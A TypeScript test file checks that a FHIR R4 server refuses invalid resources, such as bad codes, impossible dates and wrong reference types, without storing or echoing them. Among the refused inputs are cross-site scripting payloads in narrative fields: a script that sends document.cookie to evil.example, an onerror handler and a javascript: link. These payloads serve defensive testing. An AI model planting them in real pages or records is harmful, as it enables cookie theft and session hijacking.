/**
 * What FHIR R4 requires beyond structure (issue 30: 12 of 33 invalid inputs were stored): codes
 * outside required value sets, dates that do not exist, references to types an element does not
 * allow, contained resources nobody refers to (dom-3), a component repeating its observation's
 * code (obs-7), a period ending before it starts (per-1), and narratives that would run code
 * (txt-1) or are not XHTML. Each is refused with an OperationOutcome naming the path and rule,
 * without echoing the value, and nothing is stored; the valid counterpart of each is kept.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { SYSTEM } from '../src/shared/index.js';
import { call, startTestServer, type TestServer } from './helpers/harness.js';

const LOINC = 'http://loinc.org';
const obs = (over: Record<string, unknown>) => ({ resourceType: 'Observation', status: 'final', code: { text: 'Weight' }, ...over });
const div = (inner: string, attrs = ' xmlns="http://www.w3.org/1999/xhtml"') => ({ status: 'generated', div: `<div${attrs}>${inner}</div>` });

describe('strict FHIR validation', () => {
  let s: TestServer;
  let token = '';
  let patientRef = '';
  let encounterRef = '';
  before(async () => {
    s = await startTestServer();
    token = await s.login(['physician']);
    const patient = await s.cw.fhir.create(SYSTEM, 'Patient', { resourceType: 'Patient', name: [{ family: 'Strict' }] });
    patientRef = `Patient/${patient.id}`;
    const encounter = await s.cw.fhir.create(SYSTEM, 'Encounter', {
      resourceType: 'Encounter',
      status: 'finished',
      class: { code: 'AMB' },
      subject: { reference: patientRef },
    });
    encounterRef = `Encounter/${encounter.id}`;
  });
  after(async () => s?.close());

  const invalid: Array<[string, () => Record<string, unknown>, RegExp]> = [
    ['Observation.status not in its value set', () => obs({ status: 'not-a-status' }), /required value set .*observation-status/],
    ['Patient.gender not in its value set', () => ({ resourceType: 'Patient', gender: 'x' }), /administrative-gender/],
    ['Quantity.comparator not in its value set', () => obs({ valueQuantity: { value: 80, comparator: '~', unit: 'kg' } }), /quantity-comparator/],
    ['ContactPoint.system not in its value set', () => ({ resourceType: 'Patient', telecom: [{ system: 'pager2', value: '555' }] }), /contact-point-system/],
    [
      'a clinical status coding not in its value set',
      () => ({
        resourceType: 'Condition',
        subject: { reference: patientRef },
        clinicalStatus: { coding: [{ system: 'http://terminology.hl7.org/CodeSystem/condition-clinical', code: 'nope' }] },
      }),
      /condition-clinical/,
    ],
    ['a birth date that does not exist', () => ({ resourceType: 'Patient', birthDate: '2021-02-30' }), /does not exist on the calendar/],
    ['a dateTime on the 31st of April', () => obs({ effectiveDateTime: '2026-04-31T10:00:00Z' }), /does not exist/],
    ['Observation.encounter naming a Patient', () => obs({ encounter: { reference: patientRef } }), /allowed: Encounter/],
    ['Observation.hasMember naming a Patient', () => obs({ hasMember: [{ reference: patientRef }] }), /does not allow/],
    [
      'a contained resource nothing refers to (dom-3)',
      () => ({ resourceType: 'Patient', contained: [{ resourceType: 'Organization', id: 'o1', name: 'Nobody' }] }),
      /dom-3/,
    ],
    [
      'a component repeating the observation’s code with a value (obs-7)',
      () =>
        obs({
          code: { coding: [{ system: LOINC, code: '8480-6' }] },
          valueQuantity: { value: 1 },
          component: [{ code: { coding: [{ system: LOINC, code: '8480-6' }] }, valueQuantity: { value: 2 } }],
        }),
      /obs-7/,
    ],
    [
      'a period ending before it starts (per-1)',
      () => ({ resourceType: 'Encounter', status: 'finished', class: { code: 'AMB' }, period: { start: '2026-02-02', end: '2026-01-01' } }),
      /per-1/,
    ],
    [
      'a narrative with a script',
      () => ({ resourceType: 'Patient', text: div('Hello<script>fetch("https://evil.example/?c="+document.cookie)</script>') }),
      /<script>/,
    ],
    ['a narrative with an event handler', () => ({ resourceType: 'Patient', text: div('<img src="x.png" onerror="alert(1)"/>') }), /event handler/],
    ['a narrative linking to javascript:', () => ({ resourceType: 'Patient', text: div('<a href="javascript:alert(1)">see</a>') }), /link only/],
    ['a narrative without the XHTML namespace', () => ({ resourceType: 'Patient', text: div('Hello', '') }), /XHTML namespace/],
    ['a narrative with nothing in it (txt-2)', () => ({ resourceType: 'Patient', text: div('   ') }), /txt-2/],
  ];

  for (const [name, make, rule] of invalid) {
    test(`refused: ${name}`, async () => {
      const body = make();
      const type = String(body.resourceType);
      const before = (await s.cw.db.query<{ n: number }>(`select count(*)::int as n from records_version where resource_type = $1`, [type])).rows[0].n;
      const r = await call(s.url, 'POST', `/fhir/${type}`, { token, body });
      assert.equal(r.status, 400, JSON.stringify(r.body));
      assert.equal(r.body.resourceType, 'OperationOutcome');
      const diagnostics = (r.body.issue as Array<{ diagnostics: string; expression?: string[] }>).map((i) => i.diagnostics).join(' | ');
      assert.match(diagnostics, rule);
      // The value sent is not echoed.
      for (const secret of ['evil.example', 'not-a-status', 'pager2', 'Nobody', 'alert(1)']) assert.ok(!JSON.stringify(r.body).includes(secret), secret);
      const after = (await s.cw.db.query<{ n: number }>(`select count(*)::int as n from records_version where resource_type = $1`, [type])).rows[0].n;
      assert.equal(after, before, 'nothing stored');
    });
  }

  test('the valid counterparts are kept: a blood pressure panel, a leap day, a referenced contained resource, plain narrative markup, a versioned reference', async () => {
    const valid: Array<Record<string, unknown>> = [
      obs({
        code: { coding: [{ system: LOINC, code: '85354-9' }] },
        subject: { reference: patientRef },
        encounter: { reference: encounterRef },
        component: [
          {
            code: { coding: [{ system: LOINC, code: '8480-6' }] },
            valueQuantity: { value: 120, unit: 'mmHg', system: 'http://unitsofmeasure.org', code: 'mm[Hg]' },
          },
          {
            code: { coding: [{ system: LOINC, code: '8462-4' }] },
            valueQuantity: { value: 80, unit: 'mmHg', comparator: '<', system: 'http://unitsofmeasure.org', code: 'mm[Hg]' },
          },
        ],
      }),
      { resourceType: 'Patient', gender: 'female', birthDate: '2024-02-29', telecom: [{ system: 'phone', value: '555' }] },
      { resourceType: 'Patient', contained: [{ resourceType: 'Organization', id: 'gp', name: 'Family practice' }], managingOrganization: { reference: '#gp' } },
      {
        resourceType: 'Patient',
        text: div(
          '<p><b>Ann</b> <span style="color:#333">Example</span></p><table><tr><td>a</td></tr></table><a href="https://example.org/x">more</a><img src="#pic" alt="photo"/>',
        ),
      },
      obs({
        subject: { reference: patientRef },
        encounter: { reference: `${encounterRef}/_history/1` },
        valueQuantity: { value: 3, comparator: '>=' },
      }),
      {
        resourceType: 'Condition',
        subject: { reference: patientRef },
        clinicalStatus: { coding: [{ system: 'http://terminology.hl7.org/CodeSystem/condition-clinical', code: 'active' }] },
      },
      {
        resourceType: 'Encounter',
        status: 'finished',
        class: { code: 'AMB' },
        subject: { reference: patientRef },
        period: { start: '2026-01-01', end: '2026-01-01T10:00:00Z' },
      },
    ];
    for (const body of valid) {
      const stored = await s.cw.fhir.create(SYSTEM, String(body.resourceType), body as never);
      assert.ok(stored.id, String(body.resourceType));
    }
  });
});
